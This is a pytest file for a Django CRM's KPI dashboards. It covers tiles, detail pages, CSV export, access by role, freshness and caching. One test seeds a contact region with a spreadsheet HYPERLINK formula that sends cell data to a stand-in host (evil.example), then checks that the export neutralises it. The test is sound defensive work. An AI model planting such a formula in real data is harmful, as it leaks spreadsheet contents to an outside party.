"""The KPI pages as a manager reads them: the overview's tiles, a detail page, its CSV, who may see them, how
fresh the numbers are, and how few queries they take. Numbers come from snapshots written by refresh_kpis."""

import csv
import datetime
import io
import json
import re

import pytest
from django.conf import settings
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from contacts.models import Contact
from kpis.definitions.base import registry
from kpis.models import KpiRefresh, KpiTarget
from surveys.models import Response
from tests.kpis.conftest import at, channel, make_customer, make_order, make_ticket, refresh_kpis
from tests.sales.factories import LeadFactory
from tests.surveys.factories import InvitationFactory, SurveyFactory

pytestmark = pytest.mark.django_db

APRIL = {"granularity": "month", "period": "chosen", "on": "2025-04-10"}


def churn_history():
    """April: S = 4 (Rita, Remy, Pia, Paul), L = 1 (Rita); by channel Referral S = 2, L = 1 and Paid ads S = 2,
    L = 0. March: S = 1 (Pete), L = 1 (Pete)."""
    referral, paid = channel("Referral"), channel("Paid ads")
    make_customer(at(2025, 3, 3), at(2025, 4, 20), channel=referral, first_name="Rita")
    make_customer(at(2025, 3, 4), channel=referral, first_name="Remy")
    make_customer(at(2025, 3, 5), channel=paid, first_name="Pia")
    make_customer(at(2025, 3, 6), channel=paid, first_name="Paul")
    make_customer(at(2025, 2, 1), at(2025, 3, 20), channel=paid, first_name="Pete")


def answers_in_april(kind: str, scores):
    survey = SurveyFactory(kind=kind)
    for score in scores:
        invitation = InvitationFactory(survey=survey, sent_at=at(2025, 4, 1))
        Response.objects.create(invitation=invitation, kind=kind, score=score, submitted_at=at(2025, 4, 2))


@pytest.fixture
def manager_client(client, manager_user):
    client.force_login(manager_user)
    return client


def tile(html: str, key: str) -> str:
    match = re.search(rf'<article class="card kpi-tile[^"]*" data-kpi="{key}".*?</article>', html, re.S)
    assert match, f"no tile for {key}"
    return match.group(0)


def text(fragment: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", fragment)).strip()


# --- overview --------------------------------------------------------------------------------------------------


def test_the_overview_has_a_tile_for_every_kpi_grouped_by_area(manager_client):
    churn_history()
    refresh_kpis()

    response = manager_client.get("/kpis/", APRIL)

    assert response.status_code == 200
    html = response.content.decode()
    for kpi in registry().values():
        assert f'data-kpi="{kpi.key}"' in html
    assert [text(h) for h in re.findall(r'<h2 class="h5 mb-2"[^>]*>.*?</h2>', html)] == [
        "Customers and revenue",
        "Leads and deals",
        "Support and satisfaction",
    ]


def test_a_tile_shows_the_value_its_change_in_words_and_a_sparkline(manager_client):
    churn_history()
    refresh_kpis()

    html = manager_client.get("/kpis/", APRIL).content.decode()

    churn = tile(html, "churn_rate")
    # April: S = 4 (Rita, Remy, Pia, Paul), L = 1 (Rita): 25.00 %. March: S = 1 (Pete), L = 1: 100.00 %.
    assert "25.00 %" in text(churn)
    assert "kpi-change-good" in churn  # churn going down is good
    assert "−75.00 pp better vs Mar 2025" in text(churn)
    assert '<svg class="kpi-sparkline"' in churn
    assert "12 periods, May 2024 to Apr 2025" in churn
    active = tile(html, "active_customers")
    assert "▼ −1 worse vs Mar 2025" in text(active)  # E: 4 at March's end, 3 at April's end


def test_a_tile_of_a_kpi_with_no_good_direction_says_up_or_down(manager_client):
    refresh_kpis()

    html = manager_client.get("/kpis/", APRIL).content.decode()

    assert "▶ ±0 no change vs Mar 2025" in text(tile(html, "new_tickets"))


def test_the_segment_filter_applies_to_every_tile_and_says_which_kpis_lack_it(manager_client):
    churn_history()
    refresh_kpis()

    html = manager_client.get("/kpis/", {**APRIL, "dimension": "channel", "segment": "Referral"}).content.decode()

    assert "50.00 %" in text(tile(html, "churn_rate"))  # Referral: S = 2, L = 1
    assert "Not available by channel" in text(tile(html, "crc"))
    assert "Not available by channel" in text(tile(html, "pipeline_velocity"))
    assert "Channel: Referral" in text(html)


def test_a_segment_only_the_support_kpis_have_says_so_in_the_segment_list(manager_client):
    churn_history()  # customers of the Referral and Paid ads channels
    LeadFactory(channel=channel("Referral"), created_at=at(2025, 4, 2))  # a lead's channel: the sales KPIs have it
    make_ticket(at(2025, 4, 3), channel="chat")  # a ticket's channel: no customer's, no deal's
    refresh_kpis()

    html = manager_client.get("/kpis/", {**APRIL, "dimension": "channel"}).content.decode()

    options = dict(re.findall(r'<option value="([^"]*)"[^>]*>([^<]*)</option>', html))
    assert options["chat"] == "chat (Support and satisfaction only)"
    assert options["Referral"] == "Referral"  # the customers' and the deals' KPIs have it
    assert options["Paid ads"] == "Paid ads (Customers and revenue only)"


def test_nps_tile_shows_its_sample_size_and_flags_low_confidence(manager_client):
    answers_in_april("nps", (10, 9, 3))
    refresh_kpis()

    nps = text(tile(manager_client.get("/kpis/", APRIL).content.decode(), "nps"))

    assert "33.33" in nps  # (2 - 1) / 3
    assert "n = 3" in nps
    assert "low confidence" in nps


def test_weeks_quarters_and_years_have_their_own_labels(manager_client):
    refresh_kpis()

    for granularity, label in [("week", "2025-W15"), ("quarter", "Q2 2025"), ("year", "2025")]:
        html = manager_client.get("/kpis/", {**APRIL, "granularity": granularity}).content.decode()
        assert f'KPIs <span class="text-body-secondary fs-5">{label}</span>' in html


def test_the_picker_shows_what_the_page_shows(manager_client):
    refresh_kpis()

    html = manager_client.get("/kpis/").content.decode()

    assert re.search(r'<option value="month" selected>', html)
    assert re.search(r'<option value="this" selected>', html)


@pytest.mark.parametrize(
    ("day", "message"),
    [
        (
            datetime.date.today() + datetime.timedelta(days=400),
            "Choose a day up to today: a later period has no numbers yet.",
        ),
        ("1990-06-01", "Choose a day from 1 January"),
        ("2025-02-30", "Enter a valid date."),
    ],
)
def test_a_day_with_no_numbers_says_why_and_shows_this_period_of_the_granularity_asked(manager_client, day, message):
    refresh_kpis()
    this_year = timezone.localdate().year

    html = manager_client.get("/kpis/", {"granularity": "year", "period": "chosen", "on": str(day)}).content.decode()

    assert message in html
    assert f'KPIs <span class="text-body-secondary fs-5">{this_year}</span>' in html


def test_targets_show_on_and_off_target(manager_client):
    churn_history()
    refresh_kpis()
    KpiTarget.objects.create(kpi="churn_rate", granularity="month", period_start=None, value=5)
    KpiTarget.objects.create(
        kpi="active_customers", granularity="month", period_start=datetime.date(2025, 4, 1), value=2
    )

    html = manager_client.get("/kpis/", APRIL).content.decode()

    assert "off target Target 5.00 %" in text(tile(html, "churn_rate"))
    assert "on target Target 2" in text(tile(html, "active_customers"))


# --- freshness ---------------------------------------------------------------------------------------------------


def test_before_any_refresh_the_page_says_the_kpis_are_not_computed(manager_client):
    html = manager_client.get("/kpis/").content.decode()

    assert "have not been computed yet" in html


def test_a_failed_refresh_is_announced_with_the_time_of_the_last_good_one(manager_client):
    good = timezone.now() - datetime.timedelta(hours=3)
    KpiRefresh.objects.create(scope="all", status="succeeded", started_at=good, finished_at=good)
    KpiRefresh.objects.create(scope="open", status="failed", error="OperationalError: boom")

    html = manager_client.get("/kpis/").content.decode()

    assert "The last refresh failed" in html
    assert f'datetime="{timezone.localtime(good).isoformat()}"' in html


def test_numbers_not_refreshed_lately_are_called_out_of_date(manager_client):
    old = timezone.now() - datetime.timedelta(days=2)
    KpiRefresh.objects.create(scope="all", status="succeeded", started_at=old, finished_at=old)

    html = manager_client.get("/kpis/").content.decode()

    assert "may be out of date" in html


# --- detail ----------------------------------------------------------------------------------------------------


def test_the_detail_page_shows_formula_table_chart_data_and_breakdown(manager_client):
    churn_history()
    refresh_kpis()

    response = manager_client.get("/kpis/churn_rate/", {**APRIL, "breakdown": "channel"})

    assert response.status_code == 200
    html = response.content.decode()
    assert "L / S x 100" in html
    assert "Lower is better." in html
    chart = json.loads(
        re.search(r'<script id="series-chart-data" type="application/json">(.*?)</script>', html, re.S)[1]
    )
    assert chart["labels"][-2:] == ["Mar 2025", "Apr 2025"]
    assert chart["datasets"][0]["data"][-2:] == [100.0, 25.0]
    assert chart["datasets"][0]["display"][-1] == "25.00 %"
    assert "Customers lost (L): 1" in chart["datasets"][0]["extra"][-1]
    rows = re.findall(r'<tr data-segment="([^"]+)">(.*?)</tr>', html, re.S)
    assert [segment for segment, _ in rows] == ["Referral", "Paid ads"]  # worst first
    referral = text(rows[0][1])
    assert referral.startswith("Referral 50.00 % 1 2 2")


def test_every_number_of_the_detail_tables_links_to_its_records(manager_client):
    churn_history()
    refresh_kpis()

    html = manager_client.get("/kpis/churn_rate/", {**APRIL, "breakdown": "channel"}).content.decode()

    referral = re.search(r'<tr data-segment="Referral">(.*?)</tr>', html, re.S)[1]
    numerator = re.search(r'<a href="([^"]+)" data-part="numerator">1</a>', referral)[1].replace("&amp;", "&")
    assert numerator.startswith("/contacts/?")
    assert "segment_channel=Referral" in numerator
    assert "churned_after=2025-04-01" in numerator


def test_breakdown_sorts_by_the_chosen_column(manager_client):
    churn_history()
    refresh_kpis()

    html = manager_client.get("/kpis/churn_rate/", {**APRIL, "breakdown": "channel", "sort": "segment"}).content
    segments = re.findall(r'<tr data-segment="([^"]+)">', html.decode())

    assert segments == ["Paid ads", "Referral"]
    assert 'aria-sort="ascending"' in html.decode()


def test_a_segment_a_kpi_lacks_shows_the_whole_business_and_says_so(manager_client):
    refresh_kpis()

    html = manager_client.get("/kpis/crc/", {**APRIL, "dimension": "channel", "segment": "Referral"}).content

    assert "has no channel segments: the whole business is shown" in html.decode()


def test_nps_detail_shows_the_distribution_and_margin_of_error(manager_client):
    answers_in_april("nps", (10, 10, 8, 2))
    refresh_kpis()

    html = text(manager_client.get("/kpis/nps/", APRIL).content.decode())

    assert "Answers by score, Apr 2025 (n = 4)" in html
    assert "10 promoter 2 50.00 %" in html
    assert "95 % margin of error ±" in html
    assert "low confidence" in html


def test_the_previous_year_is_a_second_line_where_there_is_one(manager_client):
    customer = make_customer(at(2024, 1, 5))
    make_order(customer, at(2024, 4, 5), "100.00")
    make_order(customer, at(2025, 4, 5), "150.00")
    refresh_kpis(since="2024-01-01")

    html = manager_client.get("/kpis/revenue/", APRIL).content.decode()

    chart = json.loads(
        re.search(r'<script id="series-chart-data" type="application/json">(.*?)</script>', html, re.S)[1]
    )
    previous = next(dataset for dataset in chart["datasets"] if dataset["style"] == "previous")
    assert previous["data"][-1] == 100.0
    assert chart["datasets"][0]["data"][-1] == 150.0


def test_pages_have_no_inline_script(manager_client):
    churn_history()
    refresh_kpis()

    for url in ["/kpis/", "/kpis/churn_rate/", "/kpis/nps/", "/kpis/cohorts/"]:
        html = manager_client.get(url, APRIL).content.decode()
        for tag in re.findall(r"<script[^>]*>", html):
            assert "src=" in tag or 'type="application/json"' in tag, (url, tag)
        assert "style=" not in html.split("<main", 1)[1], url


def test_the_detail_data_downloads_as_csv(manager_client):
    churn_history()
    refresh_kpis()

    series = manager_client.get("/kpis/churn_rate/export.csv", APRIL)
    breakdown = manager_client.get(
        "/kpis/churn_rate/export.csv", {**APRIL, "table": "breakdown", "breakdown": "channel"}
    )

    assert series["Content-Type"].startswith("text/csv")
    assert series.content.startswith("\ufeff".encode())  # spreadsheets read it as UTF-8
    rows = list(csv.reader(io.StringIO(series.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["period_start", "period_end", "churn_rate", "Customers lost (L)"]
    assert rows[0][4:6] == ["Customers at the start (S)", "sample_size"]
    assert rows[-1][:6] == ["2025-04-01", "2025-05-01", "25.00", "1.00", "4.00", "4"]
    lines = list(csv.reader(io.StringIO(breakdown.content.decode("utf-8-sig"))))
    assert lines[1][:3] == ["Referral", "2025-04-01", "50.00"]


def test_a_segment_label_that_looks_like_a_formula_is_exported_as_text(manager_client):
    customer = make_customer(at(2025, 3, 1))
    Contact.objects.filter(pk=customer.pk).update(region='=HYPERLINK("http://evil.example/?"&A1,"Europe")')
    make_order(customer, at(2025, 4, 2), "100.00")
    refresh_kpis()

    export = manager_client.get("/kpis/revenue/export.csv", {**APRIL, "table": "breakdown", "breakdown": "region"})

    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert rows[1][:3] == ['\'=HYPERLINK("http://evil.example/?"&A1,"Europe")', "2025-04-01", "100.00"]


def test_an_unknown_kpi_is_a_404(manager_client):
    assert manager_client.get("/kpis/no_such_kpi/").status_code == 404


# --- who may see them ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["sales", "support", None])
@pytest.mark.parametrize(
    "url", ["/kpis/", "/kpis/churn_rate/", "/kpis/churn_rate/export.csv", "/kpis/cohorts/", "/kpis/targets/"]
)
def test_staff_without_the_manager_role_are_refused(client, make_user, role, url):
    client.force_login(make_user(role))

    assert client.get(url).status_code == 403


def test_admins_see_the_kpi_pages_and_the_navigation_link(client, admin_role_user):
    client.force_login(admin_role_user)

    html = client.get("/kpis/").content.decode()

    assert '<a class="nav-link active" href="/kpis/">KPIs</a>' in html


def test_the_navigation_has_no_kpi_link_for_sales(client, sales_user):
    client.force_login(sales_user)

    assert 'href="/kpis/"' not in client.get("/").content.decode()


def test_anonymous_visitors_are_sent_to_log_in(client):
    response = client.get("/kpis/")

    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


# --- speed ---------------------------------------------------------------------------------------------------

# A cold page (cache emptied): session, user, permissions and roles (one query), the last refresh, then the
# snapshots and targets it shows. A warm one: the user and the permissions; the session too without Redis.
COLD_QUERIES = {"/kpis/": 6, "/kpis/churn_rate/": 7, "/kpis/revenue/": 7}
WARM_QUERIES = 2 if settings.SESSION_ENGINE == "crm_project.sessions" else 3
# What a KPI page reads of the KPI module: snapshots, targets, refresh runs; never the records KPIs count.
KPI_TABLES = {"kpis_kpisnapshot", "kpis_kpitarget", "kpis_kpirefresh"}
RECORD_APPS = ("contacts_", "sales_", "support_", "surveys_")
PAGES = [("/kpis/", {}), ("/kpis/churn_rate/", {"breakdown": "channel"}), ("/kpis/revenue/", {"breakdown": "channel"})]


def grow_business(start: int):
    """More customers, channels and orders: more snapshots and segments, the same pages."""
    for number in range(start, start + 6):
        customer = make_customer(at(2025, 1 + number % 4, 2), channel=channel(f"Channel {number}"))
        make_order(customer, at(2025, 4, 3), "90.00")


def tables_read(captured) -> set[str]:
    return {table for query in captured for table in re.findall(r'(?:FROM|JOIN) "(\w+)"', query["sql"])}


@pytest.mark.parametrize(("url", "params"), PAGES)
def test_a_cold_page_reads_only_snapshots_and_targets_in_as_many_queries_whatever_the_data(manager_client, url, params):
    counts = []
    for start in (0, 10):
        grow_business(start)
        refresh_kpis()
        cache.clear()
        with CaptureQueriesContext(connection) as captured:
            assert manager_client.get(url, {**APRIL, **params}).status_code == 200
        counts.append(len(captured))
        tables = tables_read(captured)
        assert {table for table in tables if table.startswith("kpis_")} <= KPI_TABLES
        assert not [table for table in tables if table.startswith(RECORD_APPS)]

    assert counts == [COLD_QUERIES[url]] * 2


@pytest.mark.parametrize(("url", "params"), PAGES)
def test_a_warm_page_takes_the_user_and_its_permissions_only(manager_client, url, params):
    churn_history()
    refresh_kpis()
    manager_client.get(url, {**APRIL, **params})

    with CaptureQueriesContext(connection) as captured:
        response = manager_client.get(url, {**APRIL, **params})

    assert response.status_code == 200
    assert len(captured) == WARM_QUERIES
    assert not [table for table in tables_read(captured) if table.startswith("kpis_")]


def test_the_page_cache_is_keyed_by_the_parameters_the_page_reads_alone(rf):
    """Anything added to the address shares the page's cache entry (no new one per made-up parameter: a
    visitor cannot fill the cache with copies of one page); a parameter the page reads gets its own; an
    absurdly long value is not cached at all."""
    from kpis.views import KpiDetailView

    def key(**params):
        view = KpiDetailView()
        view.setup(rf.get("/kpis/revenue/", params), key="revenue")
        return view.page_cache_key("targets:False")

    plain = key(**APRIL, breakdown="channel")
    assert key(**APRIL, breakdown="channel", utm_source="mail", page="7") == plain
    assert key(**APRIL, breakdown="region") != plain
    assert key(**APRIL, breakdown="channel", sort="value") != plain
    assert key(**{**APRIL, "on": "2025-05-10"}, breakdown="channel") != plain
    assert key(**APRIL, segment="x" * 300) is None


def test_a_page_with_parameters_it_does_not_read_is_the_same_page(manager_client):
    churn_history()
    refresh_kpis()
    params = {**APRIL, "breakdown": "channel"}
    plain = manager_client.get("/kpis/revenue/", params)
    padded = manager_client.get("/kpis/revenue/", {**params, "utm_source": "x" * 300})
    other = manager_client.get("/kpis/revenue/", {**params, "breakdown": "region"})

    assert padded.status_code == plain.status_code == 200
    assert padded.context["rendered"] == plain.context["rendered"]
    assert other.context["rendered"] != plain.context["rendered"]


def test_a_refresh_shows_on_the_next_request(manager_client):
    customer = make_customer(at(2025, 3, 1))
    make_order(customer, at(2025, 4, 3), "100.00")
    refresh_kpis()
    assert "100.00 EUR" in text(tile(manager_client.get("/kpis/", APRIL).content.decode(), "revenue"))
    make_order(customer, at(2025, 4, 4), "50.00")

    refresh_kpis()

    assert "150.00 EUR" in text(tile(manager_client.get("/kpis/", APRIL).content.decode(), "revenue"))
    assert "150.00 EUR" in text(manager_client.get("/kpis/revenue/", APRIL).content.decode())


def test_a_new_or_deleted_target_shows_on_the_next_request(manager_client, django_capture_on_commit_callbacks):
    churn_history()
    refresh_kpis()
    assert "Target" not in text(tile(manager_client.get("/kpis/", APRIL).content.decode(), "churn_rate"))
    manager_client.get("/kpis/churn_rate/", APRIL)

    with django_capture_on_commit_callbacks(execute=True):
        response = manager_client.post(
            "/kpis/targets/new/", {"kpi": "churn_rate", "granularity": "month", "standing": "on", "value": "30"}
        )

    assert response.status_code == 302
    assert "on target Target 30.00 %" in text(tile(manager_client.get("/kpis/", APRIL).content.decode(), "churn_rate"))
    assert "Target 30.00 %" in text(manager_client.get("/kpis/churn_rate/", APRIL).content.decode())
    with django_capture_on_commit_callbacks(execute=True):
        manager_client.post(f"/kpis/targets/{KpiTarget.objects.get().pk}/delete/")
    assert "Target" not in text(tile(manager_client.get("/kpis/", APRIL).content.decode(), "churn_rate"))


def test_a_deploy_that_renders_pages_differently_does_not_serve_the_old_cached_html(manager_client, monkeypatch):
    """The cached parts of a page are keyed by a digest of the code that renders them too (templates, static
    files, the kpis app): after a deploy that changes it, the page's templates render again rather than the old
    HTML being served until the next refresh."""
    from kpis import selectors

    churn_history()
    refresh_kpis()

    def templates() -> set[str]:
        response = manager_client.get("/kpis/", APRIL)
        assert response.status_code == 200
        return {template.name for template in response.templates if template.name}

    cold, warm = templates(), templates()
    cached_parts = cold - warm
    assert cached_parts  # the tiles and the rest, served from the cache when warm
    assert templates() == warm

    monkeypatch.setattr(selectors, "rendering_release", lambda: "the next release")

    assert cached_parts <= templates()
    assert templates() == warm  # cached again, under the new release


def test_the_rendering_release_changes_with_a_template_a_static_file_or_the_kpis_code(tmp_path, settings):
    from kpis.selectors import rendering_release

    digest = rendering_release.__wrapped__  # not the process's cached one
    for folder in ("templates", "static/js", "kpis/definitions"):
        (tmp_path / folder).mkdir(parents=True)
    (tmp_path / "templates" / "page.html").write_text("<p>{{ value }}</p>")
    (tmp_path / "static" / "js" / "chart.js").write_text("draw();")
    (tmp_path / "kpis" / "definitions" / "sales.py").write_text("KEY = 1")
    settings.BASE_DIR = tmp_path
    seen = {digest()}

    for path, text_after in (
        ("templates/page.html", "<p>{{ value }} EUR</p>"),
        ("static/js/chart.js", "draw(); label();"),
        ("kpis/definitions/sales.py", "KEY = 2"),
    ):
        (tmp_path / path).write_text(text_after)
        seen.add(digest())

    assert len(seen) == 4
    assert digest() == digest()


# --- the period under way ------------------------------------------------------------------------------------


def test_a_sum_of_the_month_under_way_is_so_far_not_worse_than_a_whole_month(manager_client, api_client, manager_user):
    """Revenue: 300.00 two months back, 200.00 last month, 100.00 so far this month (on its first day)."""
    from kpis.periods import local_midnight, local_today, period_containing

    this_month = period_containing("month", local_today())
    last_month = this_month.previous()
    buyer = make_customer(at(2025, 1, 2))
    for month, orders in ((last_month.previous(), 3), (last_month, 2), (this_month, 1)):
        for number in range(orders):
            make_order(buyer, local_midnight(month.start) + datetime.timedelta(seconds=number + 1), "100.00")
    refresh_kpis()
    KpiTarget.objects.create(kpi="revenue", granularity="month", period_start=None, value=150)
    KpiTarget.objects.create(kpi="churn_rate", granularity="month", period_start=None, value=5)

    now = manager_client.get("/kpis/").content.decode()
    revenue = text(tile(now, "revenue"))
    assert f"−100.00 EUR so far vs {last_month.label()}" in revenue  # no verdict: a part of a month against a whole
    assert "worse" not in revenue and "kpi-change-neutral" in tile(now, "revenue")
    assert "not reached yet Target" in revenue  # 100.00 of 150.00 with days to go
    assert "within so far Target 5.00 %" in text(tile(now, "churn_rate"))  # 0 of 1 lost, with days to go
    day = (local_today() - this_month.start).days + 1
    assert f"(under way: day {day} of {(this_month.end - this_month.start).days})" in text(now)

    closed = manager_client.get("/kpis/", {"period": "chosen", "on": last_month.start.isoformat()}).content.decode()
    revenue = text(tile(closed, "revenue"))
    assert f"−100.00 EUR worse vs {last_month.previous().label()}" in revenue  # a whole month against a whole one
    assert "on target Target" in revenue
    assert "on target Target 5.00 %" in text(tile(closed, "churn_rate"))
    assert "under way" not in text(closed)

    api_client.force_authenticate(manager_user)
    items = {item["key"]: item for item in api_client.get("/api/kpis/").json()}
    assert (items["revenue"]["period_under_way"], items["revenue"]["accumulates"]) == (True, True)
    assert (items["churn_rate"]["period_under_way"], items["churn_rate"]["accumulates"]) == (True, True)
    assert items["average_order_value"]["accumulates"] is False  # an average of the period's orders
